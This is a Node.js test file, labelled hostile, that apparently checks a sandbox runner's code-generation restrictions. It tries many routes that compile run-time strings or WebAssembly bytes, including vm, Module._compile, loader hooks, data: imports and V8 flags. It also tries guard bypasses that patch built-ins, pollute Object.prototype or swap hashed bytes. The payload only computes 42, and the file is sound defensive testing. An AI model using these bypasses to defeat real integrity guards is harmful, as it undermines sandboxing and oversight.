'use strict';
// HOSTILE (do not run outside the sandbox). Issue 5, runtime hardening: "no code reaches V8
// that is not in the scanned inputs". --disallow-code-generation-from-strings closes eval
// and the Function constructors of the main context (codegen-blocked), but not the routes
// below. Each one turns a string (or bytes) made at run time into code that runs, and
// proves it by computing 42. The report lists every route and whether it ran, so this
// case records the state of the runner it was run against: when a route is closed its
// entry turns false, and the expected output changes with it (on purpose: a route that
// reopens, or a new bypass, fails the case). What the code could do once it runs is still
// bounded by the permission model and the OS sandbox (the other hostile skills); this is
// about what V8 is given to compile.
//
// Three kinds of route are listed:
//   plain routes: Node APIs that compile a string or bytes (vm, Module._compile,
//     registerHooks, WebAssembly, import('data:'), v8 flags);
//   guard bypasses: if the runner closes the plain routes with JavaScript that runs before
//     the tool (a --require'd module), the tool can patch the built-ins that JavaScript
//     calls at run time (fs.readFileSync, String.prototype.startsWith,
//     Function.prototype.call) to make a guard accept its string or to leak the original
//     function. Each bypass restores what it patched.
//   a non-.js input run as code: CommonJS compiles any extension it does not know as
//     JavaScript, so a data file of the skill (not a .js input) can be required as code.
//
// The v8 flag routes run last: they change V8 for the rest of the process.
const fs = require('fs');
const vm = require('vm');
const Module = require('module');

// A minimal WebAssembly module exporting f() -> 42: (module (func (export "f") (result i32) i32.const 42))
const WASM = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0, 1, 5, 1, 96, 0, 1, 127, 3, 2, 1, 0, 7, 5, 1, 1, 102, 0, 0, 10, 6, 1, 4, 0, 65, 42, 11]);

// The source strings are built at run time, so no scanner of the inputs sees them whole.
const SIX_TIMES_SEVEN = ['6', '*', '7'].join(' ');

// Requires a module of the skill again, past the loader's cache, so that it is compiled again.
function requireAfresh(path) {
  delete require.cache[require.resolve(path)];
  return require(path);
}

const routes = {
  vm_run_in_new_context: () => vm.runInNewContext(SIX_TIMES_SEVEN),
  vm_run_in_this_context: () => vm.runInThisContext(SIX_TIMES_SEVEN),
  vm_script: () => new vm.Script(SIX_TIMES_SEVEN).runInThisContext(),
  vm_compile_function: () => vm.compileFunction(`return ${SIX_TIMES_SEVEN}`)(),
  // A fresh context allows eval and Function by default, whatever the main context says.
  vm_context_eval: () => vm.runInNewContext(`eval(${JSON.stringify(SIX_TIMES_SEVEN)})`),
  vm_context_function_ctor: () => vm.runInNewContext(`new Function(${JSON.stringify(`return ${SIX_TIMES_SEVEN}`)})()`),
  vm_context_codegen_strings_true: () => vm.runInContext(`eval(${JSON.stringify(SIX_TIMES_SEVEN)})`, vm.createContext({}, { codeGeneration: { strings: true } })),
  module_compile: () => {
    const m = new Module('/skill/virtual-a.js');
    m._compile(`module.exports = ${SIX_TIMES_SEVEN}`, '/skill/virtual-a.js');
    return m.exports;
  },
  module_prototype_compile: () => {
    const m = new Module('/skill/virtual-b.js');
    Module.prototype._compile.call(m, `module.exports = ${SIX_TIMES_SEVEN}`, '/skill/virtual-b.js');
    return m.exports;
  },
  // Synchronous loader hooks (Node 24, main thread, no worker): a load hook hands the CJS
  // loader a source string for a module that does not exist.
  module_register_hooks_source: () => {
    const hooks = Module.registerHooks({
      resolve(specifier, context, next) {
        if (specifier === 'openvibe-virtual') return { url: 'file:///skill/openvibe-virtual.js', format: 'commonjs', shortCircuit: true };
        return next(specifier, context);
      },
      load(url, context, next) {
        if (url === 'file:///skill/openvibe-virtual.js') return { format: 'commonjs', source: `module.exports = ${SIX_TIMES_SEVEN}`, shortCircuit: true };
        return next(url, context);
      },
    });
    try { return require('openvibe-virtual'); } finally { hooks.deregister(); }
  },
  // Bypass: a guard that compares the source with fs.readFileSync(filename) reads through
  // the tool's own patched readFileSync.
  bypass_compile_with_patched_read_file_sync: () => {
    const real = fs.readFileSync;
    const source = `module.exports = ${SIX_TIMES_SEVEN}`;
    fs.readFileSync = function patched(file, ...rest) {
      return file === '/skill/lib/trigger.js' ? source : real.call(this, file, ...rest);
    };
    try {
      const m = new Module('/skill/lib/trigger.js');
      m._compile(source, '/skill/lib/trigger.js');
      return m.exports;
    } finally {
      fs.readFileSync = real;
    }
  },
  // Bypass: a guard that calls the original with original.call(...) hands it to a patched
  // Function.prototype.call, which keeps it and calls it later with any source.
  bypass_compile_leaked_via_function_call: () => {
    const realCall = Function.prototype.call;
    let leaked = null;
    Function.prototype.call = function patched(thisArg, ...args) {
      if (!leaked && thisArg instanceof Module && typeof args[0] === 'string' && typeof args[1] === 'string') leaked = this;
      return Reflect.apply(this, thisArg, args);
    };
    try {
      require('./lib/trigger.js');
    } finally {
      Function.prototype.call = realCall;
    }
    if (!leaked) return 'nothing leaked';
    const m = new Module('/skill/virtual-c.js');
    Reflect.apply(leaked, m, [`module.exports = ${SIX_TIMES_SEVEN}`, '/skill/virtual-c.js']);
    return m.exports;
  },
  // Bypass: a getter on Module.wrapper[0] gives a guard that reads it the original text,
  // and Node's wrap, which reads it again, the tool's own (code before the file's).
  bypass_module_wrapper_index_getter: () => {
    const original = Module.wrapper[0];
    let reads = 0;
    Object.defineProperty(Module.wrapper, 0, {
      get() { reads++; return reads === 1 ? original : `${original}return module.exports = ${SIX_TIMES_SEVEN};`; },
      configurable: true,
      enumerable: true,
    });
    try {
      return requireAfresh('./lib/trigger.js');
    } finally {
      Object.defineProperty(Module.wrapper, 0, { value: original, writable: true, configurable: true, enumerable: true });
    }
  },
  // Bypass: the same getter, with Object.prototype.value planted, passes a guard that asks
  // `'value' in descriptor` (the prototype answers) rather than for an own property; the
  // getter removes the plant at Node's own read.
  bypass_module_wrapper_getter_with_planted_value: () => {
    const original = Module.wrapper[0];
    Object.defineProperty(Module.wrapper, 0, {
      get() { delete Object.prototype.value; return `${original}return module.exports = ${SIX_TIMES_SEVEN};`; },
      configurable: true,
      enumerable: true,
    });
    Object.prototype.value = original;
    try {
      return requireAfresh('./lib/trigger.js');
    } finally {
      delete Object.prototype.value;
      Object.defineProperty(Module.wrapper, 0, { value: original, writable: true, configurable: true, enumerable: true });
    }
  },
  // Bypass: code of the tool's runs inside the guard itself, between its look at the
  // wrapper and Node's compile: Node's readFileSync, which the guard calls to compare the
  // source with the file, reads `options.signal`, so a getter on Object.prototype fires
  // there (its first read is the loader's own, before the guard; the second, the guard's)
  // and changes the wrapper after the guard looked at it.
  bypass_module_wrapper_changed_while_the_guard_reads: () => {
    const original = Module.wrapper[0];
    let reads = 0;
    Object.defineProperty(Object.prototype, 'signal', {
      get() {
        reads++;
        if (reads === 2) Module.wrapper[0] = `${original}return module.exports = ${SIX_TIMES_SEVEN};`;
        return undefined;
      },
      configurable: true,
    });
    try {
      return requireAfresh('./lib/trigger.js');
    } finally {
      delete Object.prototype.signal;
      Module.wrapper[0] = original;
    }
  },
  // Bypass: a file's own bytes, compiled under another format Node's _compile knows: as
  // TypeScript, whose type stripping makes code the file's JavaScript does not hold. Two
  // guards stop it, so this route alone cannot tell which: the compile guard's check of the
  // format, and, before it was there, the wasm guard (Node strips types with a WebAssembly
  // module of its own).
  bypass_compile_as_typescript: () => {
    const file = require.resolve('./lib/typed_call.js');
    const m = new Module(file);
    m._compile(fs.readFileSync(file, 'utf8'), file, 'commonjs-typescript');
    return m.exports;
  },
  cjs_require_non_js_input: () => require('./data/payload.txt'),
  wasm_module_sync: () => new WebAssembly.Instance(new WebAssembly.Module(WASM)).exports.f(),
  wasm_compile: async () => (await WebAssembly.instantiate(await WebAssembly.compile(WASM))).exports.f(),
  wasm_instantiate: async () => (await WebAssembly.instantiate(WASM)).instance.exports.f(),
  wasm_compile_streaming: async () => (await WebAssembly.instantiate(await WebAssembly.compileStreaming(new Response(WASM, { headers: { 'content-type': 'application/wasm' } })))).exports.f(),
  // Bypass: the guard hashes one set of bytes and compiles another. A species on
  // Uint8Array makes the guard's "private copy" an object the tool keeps; a patched
  // Math.floor, called by the hash after it has read the copy, puts the tool's module (padded
  // to the same length with a custom section) in its place. The allowed bytes are the
  // runtime's own llhttp, caught the same way when undici compiles it for a connection the
  // tool makes up (no socket: a stream handed to an Agent's connect).
  bypass_wasm_bytes_swapped_after_the_hash: async () => {
    const kept = [];
    class Keeper extends Uint8Array {
      constructor(...args) { super(...args); kept.push(this); }
    }
    const proto = Uint8Array.prototype;
    const ctor = Object.getOwnPropertyDescriptor(proto, 'constructor');
    const floor = Math.floor;
    Object.defineProperty(proto, 'constructor', { value: { [Symbol.species]: Keeper }, configurable: true, writable: true });
    let agent = null;
    try {
      try { await fetch('http://192.0.2.1/'); } catch {}
      const dispatcher = globalThis[Symbol.for('undici.globalDispatcher.1')];
      if (!dispatcher) return 'no dispatcher';
      agent = new dispatcher.constructor({
        connect(options, done) {
          const { Duplex } = require('stream');
          const stream = new Duplex({ read() {}, write(chunk, encoding, next) { next(); } });
          for (const name of ['setNoDelay', 'setKeepAlive', 'ref', 'unref', 'setTimeout']) stream[name] = () => stream;
          done(null, stream);
          return stream;
        },
      });
      await Promise.race([fetch('http://192.0.2.1/', { dispatcher: agent }).catch(() => {}), new Promise((r) => setTimeout(r, 300))]);
      const allowed = kept.find((k) => k.length > 1024);
      if (!allowed) return 'no runtime module caught';
      const padded = new Uint8Array(allowed.length);
      padded.set(WASM);
      const size = allowed.length - WASM.length - 4;
      padded.set([0, 0x80 | (size & 0x7f), 0x80 | ((size >> 7) & 0x7f), size >> 14, 1, 120], WASM.length);
      kept.length = 0;
      Math.floor = function swap(x) {
        if (kept.length) kept[kept.length - 1].set(padded);
        return floor(x);
      };
      const module = new WebAssembly.Module(allowed);
      return new WebAssembly.Instance(module).exports.f();
    } finally {
      Math.floor = floor;
      Object.defineProperty(proto, 'constructor', ctor);
      if (agent) agent.destroy().catch(() => {});
    }
  },
  import_data_url: async () => (await import(`data:text/javascript,export default ${encodeURIComponent(SIX_TIMES_SEVEN)}`)).default,
  // Bypass: a loader hook that checks url.startsWith('node:') / ('file:///skill/') asks the
  // tool's patched String.prototype.startsWith.
  bypass_import_data_url_with_patched_starts_with: async () => {
    const real = String.prototype.startsWith;
    String.prototype.startsWith = function patched() { return true; };
    try {
      return (await import(`data:text/javascript,export default ${encodeURIComponent(SIX_TIMES_SEVEN)}`)).default;
    } finally {
      String.prototype.startsWith = real;
    }
  },
  vm_script_dynamic_import_data_url: async () => {
    const script = new vm.Script(`import("data:text/javascript,export default ${encodeURIComponent(SIX_TIMES_SEVEN)}")`, {
      importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER,
    });
    return (await script.runInThisContext()).default;
  },
  // Changing V8's flags at run time is itself a route: --allow-natives-syntax opens V8's
  // internal %Functions to code compiled afterwards (a harmless one is called here).
  v8_set_flags_from_string: () => { require('v8').setFlagsFromString('--allow-natives-syntax'); return 42; },
  v8_natives_syntax: () => (vm.runInThisContext('typeof %IsConcurrentRecompilationSupported()') === 'boolean' ? 42 : 0),
};

async function main() {
  const ran = {};
  const errors = {};
  for (const [name, route] of Object.entries(routes)) {
    try {
      ran[name] = (await route()) === 42;
    } catch (e) {
      ran[name] = false;
      errors[name] = e.code ?? e.name;
    }
  }
  process.stderr.write(`codegen-routes errors: ${JSON.stringify(errors)}\n`);
  process.stdout.write(JSON.stringify({ ran }));
  process.exit(0);
}

main();
